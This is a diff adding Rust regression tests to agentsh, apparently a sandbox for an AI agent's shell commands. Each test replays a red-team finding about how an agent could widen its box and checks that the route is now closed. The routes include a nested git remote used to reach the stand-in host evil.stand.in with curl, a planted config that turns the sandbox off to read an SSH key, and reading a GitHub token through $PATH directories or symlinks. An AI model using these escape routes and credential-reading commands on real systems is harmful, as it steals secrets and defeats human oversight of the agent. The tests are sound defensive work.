@@ -2083,7 +2083,10 @@ fn a_missing_hooks_path_cannot_be_made_by_the_box() {
 
 /// rt-files F6 (b): with `$XDG_CONFIG_HOME` (or `$XDG_DATA_HOME`) in a dotfiles repository, agentsh's
 /// own directory is in the workspace. It is covered there: neither readable nor writable, not
-/// replaced by renaming what holds it, and not made where it was missing.
+/// replaced by renaming what holds it, and not made where it was missing. (Since rt5 B10 a user
+/// config there is the strictest, boxes of other environments not covering it; so the config
+/// here is the home's, and the covered one a stand-in beside it, named by `XDG_STATE_HOME`'s
+/// sibling: the box covers every one of agentsh's directories the same way.)
 #[test]
 fn agentshs_own_directories_inside_the_workspace_are_covered() {
     let Some(w) = world() else { return };
@@ -2092,7 +2095,13 @@ fn agentshs_own_directories_inside_the_workspace_are_covered() {
     std::fs::create_dir_all(config.parent().unwrap()).unwrap();
     std::fs::copy(w.home(".config/agentsh/config.json"), &config).unwrap();
     let before = std::fs::read_to_string(&config).unwrap();
-    w.env.push(("XDG_CONFIG_HOME".into(), w.path("dot/config").display().to_string()));
+    // A config there stands for the strictest settings, and says why.
+    let out = w.command(&["-c", "true"]).env("XDG_CONFIG_HOME", w.path("dot/config")).output().unwrap();
+    assert!(!out.status.success() && text(&out.stderr).contains("a git work tree"), "{}", text(&out.stderr));
+    // The covers, with agentsh's cache and data directories there (`<XDG_CACHE_HOME>/agentsh`
+    // standing for the config's).
+    let config = w.path("dot/config/agentsh/config.json");
+    w.env.push(("XDG_CACHE_HOME".into(), w.path("dot/config").display().to_string()));
     w.env.push(("XDG_DATA_HOME".into(), w.path("dot/data").display().to_string()));
     let forged = r#"{"commandWhitelist": ["sh probe.sh", "rm"], "sandbox": {"writable": ["~/.ssh"]}}"#;
     for (what, body) in [
@@ -5431,4 +5440,154 @@ fn a_box_whose_watch_cannot_cover_the_git_directory_is_not_kept() {
     assert!(err.contains("than the sandbox's watch for links covers") && err.contains("is not kept"), "{err}");
     std::thread::sleep(Duration::from_secs(1));
     assert!(!beats(&w.path("beat"), Duration::from_secs(1)), "the job outlived its command");
+}
+
+// ---- fix5-places: places the agent can reach that widened the box (rt5 B1, B6, B10, B11, A10) ----
+
+/// rt5 B1: a box makes a repository inside the workspace and writes its remote (`printf >>`
+/// into `sub/.git/config`, no `git remote add` for the judge to see); the next command,
+/// started in `sub`, reaches that host unasked through the proxy. Now a nested repository's
+/// remotes are asked about like any other host (none can answer here: refused), and nothing
+/// reaches the host.
+#[test]
+fn a_nested_repository_the_box_made_names_no_host_unasked() {
+    let Some(w) = world() else { return };
+    let host = StandIn::start();
+    host.file("sync", b"ok\n");
+    let w = w.git().through(&[("evil.stand.in", &host)], serde_json::json!({}));
+    let out = w.script(
+        "set -e\ngit init -q sub\nprintf '[remote \"origin\"]\\n\\turl = http://evil.stand.in/x.git\\n' >> sub/.git/config\n\
+         cp README sub/data.txt\n",
+    );
+    succeeded(&out, "a nested repository made in the box");
+    let out =
+        w.command(&["-c", "curl -fsS http://evil.stand.in/sync?d=hello"]).current_dir(w.path("sub")).output().unwrap();
+    assert!(!out.status.success(), "the box's remote was reached: {}", text(&out.stdout));
+    assert!(text(&out.stderr).contains("evil.stand.in"), "{}", text(&out.stderr));
+    assert!(host.requests().is_empty(), "the host got: {:?}", host.requests());
+    // The workspace's own remote (a real project's) is still reached unasked: see
+    // `the_projects_git_remote_is_reached_unasked`.
+}
+
+/// rt5 B6, B11: agentsh's environment is the agent's to set, and its `$PATH` named a directory
+/// below a dot-directory of home (`~/.config/gh`: the token read), an ordinary one (`~/notes`),
+/// and one inside a place the box has its own of (a directory of `/tmp` holding the person's
+/// socket, as `/tmp/tmux-0` does: the box typed into their tmux). None is shown now, and the box
+/// says so once as it is made; a program in `~/.local/bin` still runs.
+#[test]
+fn what_path_names_is_shown_only_where_it_is_a_toolchains() {
+    let Some(mut w) = world() else { return };
+    w.write_home(".config/gh/hosts.yml", "oauth_token: gho_FAKE-FIX5\n");
+    w.write_home("notes/vault.txt", "FAKE-NOTES-FIX5\n");
+    w.write_home(".local/bin/mytool", "#!/bin/sh\necho mytool ran\n");
+    std::fs::set_permissions(w.home(".local/bin/mytool"), std::fs::Permissions::from_mode(0o755)).unwrap();
+    let dir = Path::new("/tmp").join(unique("path-sockets"));
+    std::fs::create_dir_all(&dir).unwrap();
+    let _server = serve_unix(&dir.join("tmux.sock"));
+    let path = format!(
+        "{}:{}:{}:{}:{}",
+        w.home(".config/gh").display(),
+        w.home("notes").display(),
+        dir.display(),
+        w.home(".local/bin").display(),
+        std::env::var("PATH").unwrap_or_default()
+    );
+    w.env.push(("PATH".into(), path));
+    let out = w.script(&format!("set -e\nmytool\n{INSIDE}"));
+    succeeded(&out, "a program of ~/.local/bin");
+    assert_eq!(text(&out.stdout), "mytool ran\n");
+    let err = text(&out.stderr);
+    for told in [".config/gh", "notes", dir.to_str().unwrap()] {
+        assert!(err.contains("agentsh: note: not in the sandbox:") && err.contains(told), "{told} not told: {err}");
+    }
+    attack(&w, "read a token through $PATH", "set -e\ncat \"$HOME/.config/gh/hosts.yml\"\n");
+    attack(&w, "read notes through $PATH", "set -e\ncat \"$HOME/notes/vault.txt\"\n");
+    let connect = format!(
+        "set -e\n{} -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"{}\"); print(s.recv(6))'\n",
+        python(),
+        dir.join("tmux.sock").display()
+    );
+    attack(&w, "connect to a socket in a directory of /tmp on $PATH", &connect);
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+/// rt5 A10: a pnpm project of 520 packages, every file hard-linked from the store: the walk
+/// used up its directories before it reached a file, and the box wrote through to the store
+/// (and every project sharing the file). Now it is told and shown copy-on-write.
+#[test]
+fn a_wide_pnpm_farm_is_copied_on_write() {
+    let Some(w) = world() else { return };
+    let w = w.git();
+    let store = tempfile::tempdir().unwrap();
+    for n in 0..520 {
+        let name = format!("pkg{n:04}");
+        let rel = format!("node_modules/.pnpm/{name}@1.0.0/node_modules/{name}/index.js");
+        std::fs::write(store.path().join(&name), "module.exports = 1\n").unwrap();
+        std::fs::create_dir_all(w.path(&rel).parent().unwrap()).unwrap();
+        std::fs::hard_link(store.path().join(&name), w.path(&rel)).unwrap();
+    }
+    let out = w.script(&format!(
+        "set -e\nf=node_modules/.pnpm/pkg0000@1.0.0/node_modules/pkg0000/index.js\necho 'POISONED' >> $f\n\
+         chmod 0666 $f\n{INSIDE}"
+    ));
+    succeeded(&out, "write a package of a wide pnpm project");
+    assert_eq!(std::fs::read_to_string(store.path().join("pkg0000")).unwrap(), "module.exports = 1\n");
+    use std::os::unix::fs::MetadataExt;
+    assert_eq!(std::fs::metadata(store.path().join("pkg0000")).unwrap().mode() & 0o777, 0o644);
+    assert!(text(&out.stderr).contains("copy-on-write"), "not told: {}", text(&out.stderr));
+}
+
+/// rt5 B10: an ordinary boxed command writes an agentsh config into the workspace (box off,
+/// everything allowed); agentsh started with `XDG_CONFIG_HOME` naming it (the agent sets
+/// agentsh's environment, through its harness's project settings) ran with no box and read the
+/// person's key. A config a box could have written is now the strictest: nothing runs unasked,
+/// and agentsh says why. So are trust records there.
+#[test]
+fn a_config_a_box_could_write_only_tightens() {
+    let Some(w) = world() else { return };
+    let planted = r#"{"level":"autonomous","requireCommandConfirmation":false,"sandbox":{"enabled":false},"commandWhitelist":["cat"]}"#;
+    let out =
+        w.script(&format!("set -e\nmkdir -p cfg/agentsh\nprintf '%s\\n' '{planted}' > cfg/agentsh/config.json\n"));
+    succeeded(&out, "a boxed command writes a config into the workspace");
+    let key = w.home(".ssh/id_ed25519");
+    let out =
+        w.command(&["-c", &format!("cat {}", key.display())]).env("XDG_CONFIG_HOME", w.path("cfg")).output().unwrap();
+    assert!(!text(&out.stdout).contains("PRIVATE KEY"), "the planted config was obeyed: {}", text(&out.stderr));
+    assert!(!out.status.success());
+    let err = text(&out.stderr);
+    assert!(err.contains("a git work tree") && err.contains("strictest"), "not told why: {err}");
+    // Its state there (grants, the approval queue, the log) would be a box's to forge: nothing
+    // runs.
+    let out = w.command(&["-c", "sh probe.sh"]).env("XDG_STATE_HOME", w.path("state")).output().unwrap();
+    assert!(!out.status.success(), "ran with its state in the workspace: {}", text(&out.stderr));
+    assert!(text(&out.stderr).contains("a git work tree"), "{}", text(&out.stderr));
+}
+
+/// rt5 B6, through a link: a box of another workspace under home makes its `bin` a link to
+/// `~/.config/gh` (its own file to make), and the agent names that `bin` on `$PATH`. The box
+/// judges the directory where it really is: not shown, and said; a person's `~/bin` that is a
+/// link to their dotfiles' `bin` still is.
+#[test]
+fn a_path_directory_that_is_a_link_is_judged_where_it_leads() {
+    let Some(mut w) = world() else { return };
+    w.write_home(".config/gh/hosts.yml", "oauth_token: gho_FAKE-FIX5-LINK\n");
+    w.write_home("dotfiles/bin/dottool", "#!/bin/sh\necho dottool ran\n");
+    std::fs::set_permissions(w.home("dotfiles/bin/dottool"), std::fs::Permissions::from_mode(0o755)).unwrap();
+    std::os::unix::fs::symlink(w.home("dotfiles/bin"), w.home("bin")).unwrap();
+    std::fs::create_dir_all(w.home("code/other")).unwrap();
+    git(&w.home("code/other"), &["init", "-q", "."]);
+    std::os::unix::fs::symlink(w.home(".config/gh"), w.home("code/other/bin")).unwrap();
+    let path = format!(
+        "{}:{}:{}",
+        w.home("code/other/bin").display(),
+        w.home("bin").display(),
+        std::env::var("PATH").unwrap_or_default()
+    );
+    w.env.push(("PATH".into(), path));
+    let out = w.script(&format!("set -e\ndottool\n{INSIDE}"));
+    succeeded(&out, "a program of ~/bin, a link to the dotfiles' bin");
+    assert_eq!(text(&out.stdout), "dottool ran\n");
+    assert!(text(&out.stderr).contains("a link on the way leads to"), "not told: {}", text(&out.stderr));
+    let body = format!("set -e\ncat {}/hosts.yml\n", w.home("code/other/bin").display());
+    attack(&w, "read a token through a $PATH directory that is a link", &body);
 }
